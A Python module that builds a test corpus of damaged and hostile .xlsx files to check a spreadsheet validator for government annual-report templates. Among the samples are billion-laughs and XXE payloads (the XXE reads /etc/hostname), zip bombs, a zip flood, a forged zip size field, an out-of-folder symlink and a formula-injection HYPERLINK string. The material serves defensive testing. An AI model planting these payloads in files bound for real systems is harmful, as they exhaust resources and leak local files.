"""The bad-input corpus of docs/BAD-INPUTS.md, built by code: one :class:`Case` per file.

Each file lives in a folder named after its row in docs/BAD-INPUTS.md and is named after the code it
must produce (``17/F-TOO-BIG__sheet-part-bomb.xlsx``); ``OK__`` files must be accepted with no error
or warning. Files that must keep the name that makes them a case (``desktop.ini``, ``~$x.xlsx``)
carry their code in the case instead. Every readable file is a distinct agency (its own name,
code and numbers), so one merge over the whole corpus sums exactly the files that pass, and the
corpus's roster (:func:`roster_rows`) lists each of them.

Built from correct fills of the real template, then damaged the way files arrive damaged: empty,
renamed text, truncated downloads, encrypted, another format, hostile XML, zip bombs, tables with
rows inserted or labels edited, the 2019 layout, data far outside the table, odd cell values and
hostile text. What cannot be made on Linux is not here but simulated where it happens, and said so
(see :data:`ELSEWHERE`).
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from agencies import agency
from openpyxl import Workbook

from xlsx_tools.format.layout import workbook_layout
from xlsx_tools.write import template

#: the per-file time limit the corpus is validated and merged under (the huge-comment file takes
#: about 8 s on this machine's expat 2.5; correct files take a fraction of a second)
TIMEOUT = 3.0


@dataclass(frozen=True)
class Case:
    """One corpus file and what ``validate`` and ``merge`` must say about it."""

    number: int  # the row of docs/BAD-INPUTS.md
    path: str  # relative to the corpus folder
    code: str  # expected finding; "OK": accepted with no error or warning
    severity: str  # of that finding ("" for OK)
    status: str  # in a merge: included / rejected / duplicate / skipped
    write: Callable[[Maker, Path], None]
    validate: bool = True  # `validate` on the folder reports it (merge-level codes and skipped files: no)
    refusal: bool = False  # the reader refuses the whole file, whatever the time limit

    @property
    def name(self) -> str:
        return Path(self.path).name


CASES: list[Case] = []


def case(number: int, path: str, severity: str = "error", status: str | None = None, code: str | None = None,
         validate: bool = True, refusal: bool = False, writes: bool = False):
    """Register a builder: ``fn(maker)`` returns the file's bytes (or a Workbook to save), or with
    ``writes`` ``fn(maker, target)`` writes the file itself (links, names)."""
    code = code or Path(path).name.split("__")[0].lstrip("~$")
    if status is None:
        status = "included" if code == "OK" or severity in ("warning", "info") else "rejected"

    def register(fn):
        def write(maker: Maker, target: Path) -> None:
            target.parent.mkdir(parents=True, exist_ok=True)
            if writes:
                fn(maker, target)
                return
            made = fn(maker)
            target.write_bytes(made if isinstance(made, bytes) else save(made))

        CASES.append(Case(number, path, code, "" if code == "OK" else severity, status, write, validate, refusal))
        return fn
    return register


def save(wb: Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


class Maker:
    """Correct agency workbooks for the builders: each case gets its own agency unless it asks for a
    shared one (a resubmission), and identical requests give byte-identical files."""

    def __init__(self) -> None:
        self.current = 0  # the agency number of the case being built
        self.used: dict[int, dict[str, Any]] = {}  # agency number → its values, for the roster
        self.last: int | None = None  # the agency the current case's file was made from
        self._bytes: dict[tuple, bytes] = {}

    def values(self, changes: dict[str, Any] | None = None, n: int | None = None) -> dict[str, Any]:
        n = self.current if n is None else n
        v = agency(n, changes)
        self.used.setdefault(n, v)
        self.last = n
        return v

    def workbook(self, changes: dict[str, Any] | None = None, n: int | None = None) -> Workbook:
        return template.fill(template.build(), self.values(changes, n))

    def bytes(self, changes: dict[str, Any] | None = None, n: int | None = None) -> bytes:
        key = (self.current if n is None else n, repr(sorted((changes or {}).items())))
        if key not in self._bytes:
            self._bytes[key] = save(self.workbook(changes, n))
        self.last = key[0]
        return self._bytes[key]

    @property
    def good(self) -> bytes:
        """A correct workbook for damage that makes the file unreadable (its agency never counts)."""
        return self.bytes(n=0)


# -- byte-level helpers ------------------------------------------------------------------------
def rezip(data: bytes, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    """Rewrite a zip part by part; ``change`` returns new bytes, or None to drop the part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            new = change(info.filename, src.read(info.filename))
            if new is not None:
                dst.writestr(info.filename, new)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def in_part(part: str, change: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda n, b: change(b) if n == part else b


def sheet_part(name: str) -> str:
    index = [s.name for s in workbook_layout().sheets].index(name) + 1
    return f"xl/worksheets/sheet{index}.xml"


def at(key: str) -> tuple[str, str]:
    """(sheet, A1) of a field."""
    sheet, span = workbook_layout().locate(key)
    return sheet, span.ref


def set_cell(wb: Workbook, key: str, value: Any) -> Workbook:
    sheet, ref = at(key)
    wb[sheet][ref].value = value
    return wb


def cell_xml(data: bytes, key: str, xml: str) -> bytes:
    """Replace the stored XML of one field's cell (``<c r=…>…</c>``) in a saved workbook."""
    sheet, ref = at(key)
    pattern = re.compile(rb'<c r="%s"(?:[^>]*/>|[^>]*>.*?</c>)' % ref.encode(), re.S)
    return rezip(data, in_part(sheet_part(sheet), lambda b: pattern.sub(xml.encode(), b, count=1)))


def bomb(data: bytes, member: str, megabytes: int) -> bytes:
    """Add ``megabytes`` of spaces as ``member``: a tiny compressed size, a huge inflated one."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z, z.open(member, "w", force_zip64=True) as fh:
        chunk = b" " * (1024 * 1024)
        for _ in range(megabytes):
            fh.write(chunk)
    return out.getvalue()


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>")


def _without_declaration(xml: bytes) -> bytes:
    return xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml


def legacy_xls(note: str = "") -> bytes:
    """A real Excel 97-2003 workbook (BIFF8 in an OLE2 container), written by xlwt."""
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("表三")
    ws.write(0, 0, "三、收到和处理政府信息公开申请情况")
    ws.write(5, 3, 17)
    ws.write(40, 0, note)  # tells the cases' files apart (identical files would be duplicates)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# -- 1–12 container and format ------------------------------------------------------------------
@case(1, "01/F-EMPTY__zero-bytes.xlsx", refusal=True)
def _empty(m):
    return b""


@case(2, "02/F-NOT-XLSX__csv-renamed.xlsx", refusal=True)
def _csv(m):
    return "单位名称,统一社会信用代码\n某局,123\n".encode()


@case(2, "02/F-NOT-XLSX__text-renamed.xlsx", refusal=True)
def _text(m):
    return "某区科学技术局2025年政府信息公开工作年度报告\n一、总体情况\n".encode("gb18030")


@case(3, "03/F-CORRUPT__truncated-download.xlsx", refusal=True)
def _truncated(m):
    return m.good[: len(m.good) // 2]


@case(3, "03/F-CORRUPT__torn-part.xlsx", refusal=True)
def _torn(m):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    data = bytearray(out.getvalue())
    data[data.index(b"application/vnd.oasis")] ^= 0xFF  # the stored bytes no longer match their CRC
    return bytes(data)


@case(4, "04/~$F-LOCKFILE__lock-file.xlsx", severity="info", status="skipped")
def _lock(m):
    user = "张三"  # the owner's name, as Excel writes it: a length byte, the name, padding, UTF-16
    return (bytes([len(user)]) + user.encode("gb18030")).ljust(54, b" ") + user.encode("utf-16-le").ljust(111, b"\0")


@case(5, "05/F-ENCRYPTED__password.xlsx", refusal=True)
def _encrypted(m):
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(m.good)).encrypt("口令123", out)
    return out.getvalue()


@case(6, "06/F-LEGACY-XLS__excel-97.xls", refusal=True)
def _xls(m):
    return legacy_xls()


@case(6, "06/F-LEGACY-XLS__xls-renamed.xlsx", refusal=True)
def _xls_renamed(m):
    return legacy_xls("renamed")


@case(7, "07/F-FORMAT__binary.xlsb", refusal=True)
def _xlsb(m):
    return rezip(m.good, lambda n, b: b, {"xl/workbook.bin": b"\x00" * 64})


@case(7, "07/F-FORMAT__opendocument.ods", refusal=True)
def _ods(m):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


@case(7, "07/F-FORMAT__wps.et", refusal=True)
def _et(m):
    return legacy_xls("wps")  # WPS's .et is a BIFF-style OLE2 file; told apart from .xls by its suffix


@case(8, "08/F-NOT-XLSX__no-content-types.xlsx", refusal=True)
def _no_content_types(m):
    return rezip(m.good, lambda n, b: None if n == "[Content_Types].xml" else b)


@case(9, "09/F-STRICT-OOXML__strict.xlsx", refusal=True)
def _strict(m):
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return rezip(m.good, in_part("xl/workbook.xml", lambda b: b.replace(main, b"http://purl.oclc.org/ooxml/spreadsheetml/main")))


@case(10, "10/F-MACRO__macro-enabled.xlsm", refusal=True)
def _xlsm(m):
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    rel = (b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
           b'Target="vbaProject.bin"/></Relationships>')

    def change(n, b):
        if n == "[Content_Types].xml":
            b = b.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro.encode())
            vba = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            return b.replace(b"</Types>", vba + b"</Types>")
        return b.replace(b"</Relationships>", rel) if n == "xl/_rels/workbook.xml.rels" else b
    return rezip(m.bytes(), change, {"xl/vbaProject.bin": legacy_xls("vba")})  # any OLE2 body: never run


@case(11, "11/OK__UPPER-CASE.XLSX")
def _upper(m):
    return m.bytes()


@case(11, "11/OK__某区 科学技术局（修改稿） 2025.xlsx")
def _spaces(m):
    return m.bytes()


LONG = "/".join(["很长的文件夹名称" * 3] * 5)  # about 400 bytes of path inside the corpus folder


@case(11, f"11/{LONG}/OK__long-path.xlsx")
def _long_path(m):
    return m.bytes()


@case(12, "12/desktop.ini", code="F-IGNORED", severity="info", status="skipped", validate=False)
def _desktop(m):
    return b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\imageres.dll,-3\r\n"


@case(12, "12/Thumbs.db", code="F-IGNORED", severity="info", status="skipped", validate=False)
def _thumbs(m):
    return legacy_xls("thumbs")[:512]


@case(12, "12/.DS_Store", code="F-IGNORED", severity="info", status="skipped", validate=False)
def _ds_store(m):
    return b"\x00\x00\x00\x01Bud1" + b"\x00" * 64


@case(12, "12/.F-IGNORED__hidden.xlsx", code="F-IGNORED", severity="info", status="skipped", validate=False)
def _hidden(m):
    return m.good


@case(12, "12/F-IGNORED__notes.docx", severity="info", status="skipped", validate=False)
def _docx(m):
    return b"PK\x03\x04 a covering letter, not a workbook"


@case(12, "12/下属单位/OK__in-a-sub-folder.xlsx")
def _sub_folder(m):
    return m.bytes()


@case(12, "12/F-IGNORED__link-out-of-folder.xlsx", severity="info", status="skipped", validate=False, writes=True)
def _link_out(m, target):
    outside = target.parents[2] / "outside-the-corpus.xlsx"  # beside the corpus folder, not in it
    outside.write_bytes(m.bytes())
    target.symlink_to(outside)


# -- 13–16 XML-level attacks and damage ------------------------------------------------------------
SST_REL = (b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'sharedStrings" Target="sharedStrings.xml"/></Relationships>')


def with_shared_strings(data: bytes, sst: bytes, key: str = "t3.new.natural", index: int = 0) -> bytes:
    """Give the workbook a shared-string table (the template writes inline strings) and point one
    field's cell at entry ``index`` of it."""
    sheet, ref = at(key)
    part = sheet_part(sheet)

    def change(n, b):
        if n == "xl/_rels/workbook.xml.rels":
            return b.replace(b"</Relationships>", SST_REL)
        if n == part:
            return re.sub(rb'<c r="%s"([^>]*)>.*?</c>' % ref.encode(),
                          rb'<c r="%s" t="s"><v>%d</v></c>' % (ref.encode(), index), b, count=1)
        return b
    return rezip(data, change, {"xl/sharedStrings.xml": sst})


def _sst(*strings: bytes, prolog: bytes = b'<?xml version="1.0"?>') -> bytes:
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d">' % len(strings)
    return prolog + head + b"".join(b"<si><t>%s</t></si>" % t for t in strings) + b"</sst>"


@case(13, "13/F-UNSAFE-XML__billion-laughs-shared-strings.xlsx", refusal=True)
def _laughs_sst(m):
    return with_shared_strings(m.good, _sst(b"&lol9;", prolog=LAUGHS))


@case(13, "13/F-UNSAFE-XML__billion-laughs-workbook.xlsx", refusal=True)
def _laughs_workbook(m):
    return rezip(m.good, in_part("xl/workbook.xml", lambda b: LAUGHS + _without_declaration(b).replace(
        b"<workbook ", b"<workbook a='&lol9;' ", 1)))


XXE_TARGET = "/etc/hostname"


@case(14, "14/F-UNSAFE-XML__xxe-in-sheet.xlsx", refusal=True)
def _xxe(m):
    doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://%s">]>' % XXE_TARGET.encode()
    return rezip(m.good, in_part(sheet_part("表三"), lambda b: doctype + _without_declaration(b).replace(
        b"<v>17</v>", b"<v>&xxe;</v>", 1)))


@case(15, "15/F-CORRUPT__shared-string-out-of-range.xlsx", refusal=True)
def _sst_index(m):
    return with_shared_strings(m.good, _sst(b"x"), index=99999)


@case(15, "15/F-CORRUPT__missing-sheet-part.xlsx", refusal=True)
def _missing_part(m):
    return rezip(m.good, lambda n, b: None if n == sheet_part("表三") else b)


@case(16, "16/F-CORRUPT__malformed-workbook-xml.xlsx", refusal=True)
def _malformed(m):
    return rezip(m.good, in_part("xl/workbook.xml", lambda b: b[: len(b) // 2]))


# -- 17–22 resource exhaustion -------------------------------------------------------------------------
@case(17, "17/F-TOO-BIG__sheet-part-bomb.xlsx", refusal=True)
def _sheet_bomb(m):
    part = sheet_part("表三")
    return bomb(rezip(m.good, lambda n, b: None if n == part else b), part, 400)  # 400 MB in about 400 KB


@case(17, "17/F-TOO-BIG__zip-bomb.xlsx", refusal=True)
def _media_bomb(m):
    return bomb(m.good, "xl/media/bomb.bin", 150)


@case(18, "18/F-TOO-BIG__declared-size-too-small.xlsx", refusal=True)
def _declared_small(m):
    """The directory says 1,000 bytes; the data inflates to the whole sheet (stopped past 1,000)."""
    part = sheet_part("表三").encode()
    data = bytearray(m.good)
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local header, central directory
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_len = struct.unpack_from("<H", data, start + (26 if signature == b"PK\x03\x04" else 28))[0]
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if bytes(data[name_at:name_at + name_len]) == part:
                struct.pack_into("<I", data, start + size_at, 1000)
            start += 4
    return bytes(data)


@case(19, "19/F-TOO-MANY-PARTS__part-flood.xlsx", refusal=True)
def _flood(m):
    return rezip(m.good, lambda n, b: b, {f"xl/junk/{i}.xml": b"" for i in range(2500)})


@case(20, "20/S-DATA-OUTSIDE-TABLE__cell-at-XFD1048576.xlsx", severity="warning")
def _far_cell(m):
    wb = m.workbook()
    wb["表三"]["XFD1048576"] = "远处"
    return wb


@case(20, "20/OK__dimension-A1-XFD1048576.xlsx")
def _dimension(m):
    return rezip(m.bytes(), in_part(sheet_part("表三"), lambda b: re.sub(
        rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', b, count=1)))


@case(21, "21/F-TIMEOUT__huge-xml-comment.xlsx")
def _huge_comment(m):
    """99 MB of one XML comment, under the 100 MB part limit: expat takes seconds over it."""
    return rezip(m.good, in_part(sheet_part("表三"), lambda b: b.replace(
        b"<sheetData>", b"<!--" + b"x" * (99 * 1024 * 1024) + b"--><sheetData>", 1)))


@case(22, "22/OK__large-image.xlsx")
def _large_image(m):
    """80 MB of image data compressing 1000:1: a ratio alone must not refuse a file."""
    return bomb(m.bytes(), "xl/media/image1.png", 80)


# -- 23–29 structure against the template --------------------------------------------------------------
@case(23, "23/S3__sheet-renamed.xlsx", severity="warning")  # known by its labels, read as 表三
def _renamed(m):
    wb = m.workbook()
    wb["表三"].title = "表三 (2)"
    return wb


@case(23, "23/S2__sheet-renamed-Sheet1.xlsx", severity="warning")
def _renamed_sheet1(m):
    wb = m.workbook()
    wb["表二"].title = "Sheet1"
    return wb


@case(23, "23/S3__sheet-deleted.xlsx")  # nowhere to be found: an error, its checks held back
def _deleted(m):
    wb = m.workbook()
    del wb["表三"]
    return wb


@case(24, "24/S-EXTRA-SHEET__agency-notes.xlsx", severity="info")
def _extra_sheet(m):
    wb = m.workbook()
    wb.create_sheet("本单位备注")["A1"] = "内部核对用"
    return wb


@case(25, "25/S3__row-inserted.xlsx")
def _row_inserted(m):
    wb = m.workbook()
    wb["表三"].insert_rows(7)
    return wb


@case(25, "25/S4__column-deleted.xlsx")
def _column_deleted(m):
    wb = m.workbook()
    wb["表四"].delete_cols(3)
    return wb


@case(25, "25/S2__label-edited.xlsx")
def _label_edited(m):
    wb = m.workbook()
    wb["表二"]["A5"] = "规章制度"
    return wb


@case(26, "26/S-LABEL-NORMALISED__spaces-in-labels.xlsx", severity="info")
def _label_spaces(m):
    wb = m.workbook()
    wb["表三"]["E5"] = " 商业\u3000企业\u00a0"
    wb["表三"]["B8"] = "(一) 予以\u200b公开 "
    return wb


@case(27, "27/S5__layout-2019.xlsx")
def _layout_2019(m):
    wb = m.workbook()
    wb["表二"]["B4"] = "本年新制作数量"
    return wb


@case(27, "27/F-TEMPLATE-VERSION__version-missing.xlsx", severity="warning")
def _no_version(m):
    from xlsx_tools.format.declaration import load

    fmt = load()
    wb = m.workbook()
    guide = next(s for s in workbook_layout().sheets if s.kind == "guide")
    label = next(lb for lb in guide.labels if lb.text == fmt.guide["version_label"])
    wb[guide.name].cell(label.span.row, label.span.col + 1).value = None
    data = save(wb)
    return rezip(data, in_part("docProps/custom.xml", lambda b: re.sub(
        rb'<property[^>]*name="%s".*?</property>' % fmt.meta["version_property"].encode(), b"", b, flags=re.S)))


@case(28, "28/S-MERGED-CELLS__merged-value-cells.xlsx", severity="warning")
def _merged(m):
    wb = m.workbook()
    sheet, first = at("t3.denied_law.research")
    _, last = at("t3.denied_law.nonprofit")  # both 0: only the merge hides anything
    wb[sheet].merge_cells(f"{first}:{last}")
    return wb


@case(28, "28/OK__hidden-rows-columns-and-filter.xlsx")
def _hidden_rows(m):
    wb = m.workbook()
    ws = wb["表三"]
    for row in (8, 9, 10):
        ws.row_dimensions[row].hidden = True
    ws.column_dimensions["F"].hidden = True
    ws.auto_filter.ref = "B5:J30"
    ws.auto_filter.add_filter_column(2, ["0"])
    return wb


@case(29, "29/C5__name-differs-from-roster.xlsx", severity="warning", validate=False)
def _name_differs(m):
    return m.bytes()  # the roster lists this agency's code under another name (see roster_rows)


ANOTHER = 902  # an agency on the roster whose name another agency's file carries


@case(29, f"29/C5__{agency(ANOTHER)['id.name']}的年报.xlsx", severity="warning", validate=False)
def _file_named_for_another(m):
    m.values(n=ANOTHER)  # on the roster (it sends nothing)
    return m.bytes()  # this case's own agency, in a file named for the other one


# -- 30–39 cell values -------------------------------------------------------------------------------
ZERO = "t3.denied_law.research"  # a count whose correct value is 0: text there changes no sum


def _odd(raw: Any):
    return lambda m: set_cell(m.workbook(), ZERO, raw)


for _n, _name, _raw, _severity in (
        (30, "S6__count-with-unit", "12件", "error"), (30, "S6__full-width-digits", "１２", "error"),
        (30, "S6__thousands-comma", "1,234", "error"), (30, "S6__letter-O", "12O", "error"),
        (30, "S6__dash-for-zero", "—", "warning"), (30, "S6__slash-for-zero", "/", "warning"),
        (30, "S6__none-for-zero", "无", "warning"), (30, "S6__negative", -3, "error"),
        (31, "S7__blank-count", None, "warning"), (33, "S6-EXCEL-ERROR__div0", "#DIV/0!", "error"),
        (33, "S6-EXCEL-ERROR__ref", "#REF!", "error"), (35, "S6__fraction", 0.5, "error")):
    case(_n, f"{_n}/{_name}.xlsx", _severity)(_odd(_raw))


@case(32, "32/F-UNCALCULATED__formula-without-result.xlsx")
def _uncalculated(m):
    return set_cell(m.workbook(), ZERO, "=1-1")  # written by a script: a formula, no cached result


@case(34, "34/S6__fee-in-yuan-text.xlsx")  # text, summed as 0: one finding, its hint the 万元 figure
def _yuan_text(m):
    return m.workbook({"t2.fees.amount": "251000元"})


@case(34, "34/S9__fee-in-yuan.xlsx", severity="warning")  # a number: 251000 万元 for a 部门's fees
def _yuan(m):
    return m.workbook({"t2.fees.amount": 251000})


@case(35, "35/S6__sixteen-digit-count.xlsx")
def _too_large(m):
    return cell_xml(m.bytes(), ZERO, f'<c r="{at(ZERO)[1]}"><v>1234567890123456</v></c>')


@case(35, "35/S6__infinity.xlsx")
def _infinity(m):
    return cell_xml(m.bytes(), ZERO, f'<c r="{at(ZERO)[1]}"><v>1e309</v></c>')


@case(35, "35/OK__whole-number-as-float.xlsx")
def _whole_float(m):
    key = "t3.new.natural"
    return cell_xml(m.bytes(), key, f'<c r="{at(key)[1]}"><v>{m.values()[key]}.0</v></c>')


@case(36, "36/I7__date-as-text.xlsx", severity="warning")
def _date_text(m):
    return m.workbook({"id.filled_on": "2026年1月20日"})


@case(36, "36/I4__year-as-text.xlsx")
def _year_text(m):
    return m.workbook({"id.year": "2025年"})


@case(36, "36/OK__date-as-serial.xlsx")
def _date_serial(m):
    return m.workbook({"id.filled_on": 46042})  # 2026-01-20 as Excel stores it, without a date format


@case(37, "37/I2__code-pasted-as-number.xlsx")
def _code_number(m):
    return m.workbook({"id.code": 9.14103e17})  # what a paste into a General cell leaves of a code


@case(38, "38/I3__pasted-over-dropdown.xlsx")
def _pasted_kind(m):
    return m.workbook({"id.kind": "局"})  # not one of the dropdown's items


@case(39, "39/R1__balance-broken.xlsx")
def _r1(m):
    return m.workbook({"t3.new.natural": m.values()["t3.new.natural"] + 80})


@case(39, "39/R2__results-total-typed.xlsx")
def _r2(m):
    return set_cell(m.workbook(), "t3.results_total.natural", 1)


@case(39, "39/R3__row-total-typed.xlsx")
def _r3(m):
    return set_cell(m.workbook(), "t3.granted.total", 1)


@case(39, "39/R6__review-total-typed.xlsx")
def _r6(m):
    return set_cell(m.workbook(), "t4.review.total", 99)


# -- 40–43 agency text that reaches the summary ------------------------------------------------------
FORMULA_TEXT = {"id.filler": "@SUM(A1)", "id.phone": "+86 379 6321 0000",
                "s5.text": '=HYPERLINK("http://x/?"&A1,"点击") 存在问题：解读不够。改进情况：加强解读。',
                "s1.management": "-1 条目录调整，=1+1 之类的文字不会被计算。"}


@case(40, "40/T-FORMULA-LIKE__text-like-formulas.xlsx", severity="info")
def _formula_like(m):
    return m.workbook(FORMULA_TEXT)


@case(41, "41/T-CONTROL-CHAR__control-characters.xlsx", severity="warning")
def _control(m):
    # openpyxl writes "_x0001_" as it is; Excel and every reader decode it to the character U+0001
    return m.workbook({"s5.text": "存在问题_x0001_：解读不够。改进情况：加强解读_x001F_。",
                       "id.filler": "张_x0007_三"})


LONG_TEXT = "长" * 40000


@case(42, "42/T-TOO-LONG__forty-thousand-characters.xlsx")
def _too_long(m):
    marker = "LONG-TEXT-GOES-HERE"
    data = m.bytes({"s5.text": marker})  # openpyxl would cut 40,000 characters to 32,767 silently
    return rezip(data, lambda n, b: b.replace(marker.encode(), LONG_TEXT.encode()))


EXOTIC = "张👩‍💻𠀀𪚥 e\u0301 مرحبا שלום"  # emoji with ZWJ, extension-B CJK, a combining mark, RTL


@case(43, "43/OK__emoji-rare-cjk-rtl.xlsx")
def _exotic(m):
    return m.workbook({"id.filler": EXOTIC, "s5.text": f"存在问题：{EXOTIC}。改进情况：加强解读。"})


# -- 44–46 across files --------------------------------------------------------------------------------
RESUBMITTED = 900  # the agency that sent two different files


@case(44, "44/C5__resubmitted-first.xlsx", validate=False)
def _first(m):
    return m.bytes(n=RESUBMITTED)


@case(44, "44/C5__resubmitted-second.xlsx", validate=False)
def _second(m):
    return m.bytes({"t2.penalty.decisions": 3}, n=RESUBMITTED)


DUPLICATED = 901


@case(45, "45/OK__original.xlsx")
def _original(m):
    return m.bytes(n=DUPLICATED)


@case(45, "45/副本/F-DUPLICATE__byte-identical-copy.xlsx", severity="info", status="duplicate", validate=False)
def _copy(m):
    return m.bytes(n=DUPLICATED)  # the same bytes: the maker keeps them


@case(46, "46/C5__off-roster.xlsx", severity="warning", validate=False)
def _off_roster(m):
    return m.bytes()  # left out of the roster


#: an agency on the roster that sends nothing (C5 warning on the roster's account)
MISSING = 999
#: docs/BAD-INPUTS.md rows not made as corpus files, and where each is tested instead
ELSEWHERE = {
    47: "test_corpus.py::test_shuffled_batches_with_bad_files_give_identical_content, "
        "test_merge.py::test_same_inputs_in_any_order_give_identical_content",
    48: "test_corpus.py::test_worst_of_the_corpus_costs_only_itself (a native abort: os.abort in the worker)",
    49: "test_corpus.py::test_replace_refused_keeps_the_verified_file (PermissionError simulated), "
        "test_output.py::test_refused_replace_keeps_the_verified_new_file",
    50: "test_merge.py::test_failure_while_writing_leaves_the_earlier_summary_byte_identical",
    51: "test_merge.py::test_output_inside_an_input_folder_or_equal_to_an_input_is_refused_before_reading, "
        "test_corpus.py::test_an_unwritable_output_folder_is_refused_before_reading (os.access simulated: root)",
    52: "test_corpus.py::test_the_runs_end_as_they_should, test_merge.py::test_inputs_are_untouched "
        "(and every merge test that takes a fingerprint)",
    53: "test_live.py::test_an_unsaved_edit_is_seen, test_button.py::test_second_click_after_fixing_clears_the_marks",
    54: "test_button.py::test_an_unexpected_error_shows_a_short_message_and_logs_the_details",
    55: "test_ocr.py::test_without_the_ocr_extra_a_scan_says_how_to_install_it",
    56: "test_ocr.py::test_a_pictures_file_is_read_only_from_the_page_or_beside_it (http)",
    57: "test_ocr.py::test_a_pictures_file_is_read_only_from_the_page_or_beside_it (../, absolute, file:)",
    58: "test_ocr.py::test_a_pictures_file_is_read_only_from_the_page_or_beside_it (broken, missing, bad base64)",
    59: "test_ocr.py::test_pictures_count_as_pages_and_a_huge_one_is_not_decoded, "
        "test_ocr.py::test_a_pictures_file_is_read_only_from_the_page_or_beside_it (--max-mb)",
    60: "test_ocr.py::test_pictures_count_as_pages_and_a_huge_one_is_not_decoded, "
        "test_ocr.py::test_a_file_that_may_be_recognised_gets_the_recognisers_time_and_memory",
    61: "test_suspects.py, test_ocr.py::test_scans_and_pictures_import_exactly_and_are_assessed (the smudged number)",
}


@dataclass
class Corpus:
    folder: Path
    cases: dict[str, Case]  # path relative to the folder (posix) → case
    roster: Path  # beside the folder, not in it
    agency: dict[str, int]  # path → the agency its file was made from (tests.agencies.agency(n))
    values: dict[str, dict[str, Any]]  # path → the values it was written with (a warning case may change some)

    def path(self, c: Case) -> Path:
        return self.folder / c.path


def build(folder: Path) -> Corpus:
    """Write every case under ``folder``, and the corpus's roster beside it (名录.xlsx): every agency
    a case built, the off-roster one left out, the renamed one listed under another name, and one
    that never sends a file."""
    maker = Maker()
    numbers, made = {}, {}
    for n, c in enumerate(CASES, start=1):
        maker.current = numbers[c.path] = n
        maker.last = None
        c.write(maker, folder / c.path)
        if maker.last is not None:
            made[c.path] = maker.last
    off, renamed = numbers["46/C5__off-roster.xlsx"], numbers["29/C5__name-differs-from-roster.xlsx"]
    wb = Workbook()
    ws = wb.active
    ws.append(["单位名称", "统一社会信用代码", "单位类型", "所属地区"])
    for n in sorted((set(maker.used) | {MISSING}) - {off, 0}):
        v = maker.values(n=n)
        ws.append([v["id.name"] + ("（原名）" if n == renamed else ""), v["id.code"], v["id.kind"], v["id.region"]])
    roster = folder.parent / f"{folder.name}-名录.xlsx"
    wb.save(roster)
    return Corpus(folder, {c.path: c for c in CASES}, roster, made, {p: maker.used[n] for p, n in made.items()})


def by_name(name: str) -> Case:
    return next(c for c in CASES if c.name == name)


def good_bytes() -> bytes:
    """A correct workbook (agency 0)."""
    return Maker().good


def bytes_of(name: str) -> bytes:
    """One case's file, built alone (for tests that need a single bad file)."""
    import tempfile

    c = by_name(name)
    maker = Maker()
    maker.current = CASES.index(c) + 1
    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / "corpus" / c.path
        c.write(maker, target)
        return target.resolve().read_bytes()
